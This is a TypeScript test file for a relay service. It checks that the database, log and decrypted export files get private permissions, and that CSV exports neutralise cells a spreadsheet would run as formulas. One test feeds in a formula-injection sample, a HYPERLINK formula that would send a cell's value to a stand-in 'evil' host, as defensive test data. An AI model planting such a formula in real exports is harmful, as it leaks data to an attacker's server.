// P8 items 6 and 7: the database, its folder and the log files are private to the relay's user (tightened at start
// when an older version left them readable); `crs export --decrypt` into an existing file leaves it 0600; CSV
// exports neutralise cells a spreadsheet would run as formulas.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { toCsv } from '../../src/accounting/usage-analytics.js';
import { SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { createAppLogger } from '../../src/platform/log-setup.js';
import { startRelay } from '../support/harness.js';

const mode = (p: string) => statSync(p).mode & 0o777;
const run = promisify(execFile);
const CLI = join(import.meta.dirname, '..', '..', 'src', 'cli', 'main.ts');

test('database folder 0700, database files 0600; a readable database left by an older version is tightened', () => {
  const dir = mkdtempSync(join(tmpdir(), 'crs-modes-'));
  try {
    const app = join(dir, 'app');
    const file = join(app, 'relay.db');
    const fresh = new SqliteStore({ file, pollMs: 0 });
    fresh.kv.set('x', '1').catch(() => undefined);
    assert.equal(mode(app), 0o700);
    assert.equal(mode(file), 0o600);
    assert.equal(mode(`${file}-wal`), 0o600, "SQLite gives the WAL the database file's mode");
    void fresh.close();
    chmodSync(app, 0o755);
    for (const f of [file, `${file}-wal`, `${file}-shm`]) {
      try {
        chmodSync(f, 0o644);
      } catch {
        // -wal/-shm may be gone after close
      }
    }
    const again = new SqliteStore({ file, pollMs: 0 });
    assert.equal(mode(app), 0o700);
    assert.equal(mode(file), 0o600);
    void again.close();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('log files are 0600, older ones tightened; a new log folder is 0700', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'crs-logs-'));
  try {
    const logs = join(dir, 'logs');
    mkdirSync(logs);
    const old = join(logs, 'relay-2020-01-01.log');
    writeFileSync(old, '{}\n');
    chmodSync(old, 0o644);
    const app = createAppLogger({ level: 'info', dir: logs, stdout: false, retentionDays: 100_000, tzOffsetHours: 0 });
    app.log.info('hello');
    await app.close();
    assert.equal(mode(app.file()!), 0o600);
    assert.equal(mode(old), 0o600);
    const fresh = join(dir, 'new-logs');
    const second = createAppLogger({ level: 'info', dir: fresh, stdout: false, retentionDays: 1, tzOffsetHours: 0 });
    await second.close();
    assert.equal(mode(fresh), 0o700);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('crs export --decrypt into an existing world-readable file leaves it 0600', async () => {
  const t = await startRelay();
  try {
    const out = join(t.dataDir, 'export.json');
    writeFileSync(out, 'old');
    chmodSync(out, 0o644);
    await run(process.execPath, ['--import', import.meta.resolve('tsx'), CLI, 'export', '--decrypt', '--out', out], {
      cwd: t.dataDir,
      env: { ...process.env, DATA_DIR: t.dataDir, NODE_ENV: 'test', REDIS_URL: '', REDIS_HOST: '' },
    });
    assert.equal(mode(out), 0o600);
    assert.equal(JSON.parse(readFileSync(out, 'utf8')).decrypted, true);
  } finally {
    await t.close();
  }
});

test('CSV exports: formula-like text gets a leading quote mark; numbers stay numbers', async () => {
  const csv = toCsv(
    ['name', 'n'],
    [
      ['=1+1', 1],
      ['+A1', -2],
      ['-A1', 3],
      ['@SUM(A1)', 4],
      ['\tx', 5],
      ['\rx', 6],
      ['plain', 7],
    ],
  );
  const lines = csv.slice(1).trim().split('\r\n');
  assert.deepEqual(lines, ['name,n', `"'=1+1",1`, `"'+A1",-2`, `"'-A1",3`, `"'@SUM(A1)",4`, `"'\tx",5`, `"'\rx",6`, 'plain,7']);

  const t = await startRelay();
  try {
    const { id } = await t.createKey();
    for (const model of ['=HYPERLINK("http://evil/?"&A1,"x")', '@SUM(1)', 'claude-sonnet-4-5']) {
      t.relay.recorder.record({
        requestId: `r-${model}`,
        ts: Date.now(),
        keyId: id,
        accountId: null,
        model,
        endpoint: '/v1/messages',
        stream: false,
        status: 200,
        durationMs: 1,
        usage: null,
        partial: false,
        errorCode: null,
      });
    }
    await t.recorded(id, 3);
    const res = await fetch(`${t.url}/admin/usage/breakdown.csv?dimension=model`, { headers: { authorization: `Bearer ${t.adminToken}` } });
    const text = await res.text();
    assert.match(text, /^"'=HYPERLINK\(""http:\/\/evil/m);
    assert.match(text, /^"'@SUM\(1\)"/m);
    assert.doesNotMatch(text, /^"?[=@]/m, 'no cell starts with a formula character');
  } finally {
    await t.close();
  }
});
